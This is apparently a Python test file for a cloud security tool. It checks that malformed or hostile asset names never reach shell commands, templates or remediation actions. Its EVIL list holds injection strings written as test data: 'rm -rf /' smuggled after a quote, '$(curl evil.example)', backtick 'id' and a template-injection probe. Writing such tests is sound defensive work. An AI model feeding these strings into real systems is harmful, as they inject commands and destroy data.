"""Only names that fit the provider's grammar reach a command, a template or an action."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.telling import asset, documented, finding, told, triaged

from isthmus.graph.identity import names_of
from isthmus.intake.normalise import normalise
from isthmus.model.assets import Asset, AssetKind
from isthmus.model.findings import Kind
from isthmus.model.severity import Severity
from isthmus.plan.targets import target_of

EVIL = ['x"; rm -rf / #', "$(curl evil.example)", "a b", "..", "`id`", "x\ny", "-rf", "bucket}}{{7*7}}", "ünï"]


def known(one: Asset) -> Asset:
    names = names_of(one)
    return replace(one, id=names[0] if names else "", aliases=names)


@pytest.mark.parametrize("kind", [AssetKind.INSTANCE, AssetKind.BUCKET, AssetKind.ROLE, AssetKind.USER, AssetKind.ACCESS_KEY])
def test_a_real_name_is_a_target(kind: AssetKind) -> None:
    assert target_of(known(asset(kind)))


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize(
    "kind", [AssetKind.INSTANCE, AssetKind.BUCKET, AssetKind.ROLE, AssetKind.SECURITY_GROUP, AssetKind.POD]
)
def test_a_name_outside_the_grammar_is_none(kind: AssetKind, evil: str) -> None:
    for given_id in (evil, f"arn:aws:s3:::{evil}", f"arn:aws:iam::210987654321:role/{evil}", f"k8s:c/n/{evil}"):
        assert target_of(known(Asset(kind, "aws", "210987654321", ids=(given_id,)))) == ""


@given(st.text(max_size=80), st.sampled_from(AssetKind), st.sampled_from(["aws", "azure", "gcp", "kubernetes", ""]))
def test_no_text_at_all_brings_a_character_a_shell_would_read(text: str, kind: AssetKind, provider: str) -> None:
    target = target_of(known(Asset(kind, provider, "210987654321", ids=(text,))))
    assert not set(target) & set(" \t\n;|&$`<>\"'\\*?#!~{}[]")


@pytest.mark.parametrize("evil", EVIL)
def test_an_evil_bucket_gets_words_and_no_command(evil: str) -> None:
    one = finding(Kind.MISCONFIGURATION, replace(asset(AssetKind.BUCKET), ids=(evil,)), "Bucket is public", Severity.CRITICAL)
    normalise(replace(one, source="wiz"))
    (incident,) = documented(triaged([told("wiz", one)])).incidents
    assert [each.ability for each in incident.actions] == ["case.open"]
    assert all(each.form == "text" for each in incident.remediation)
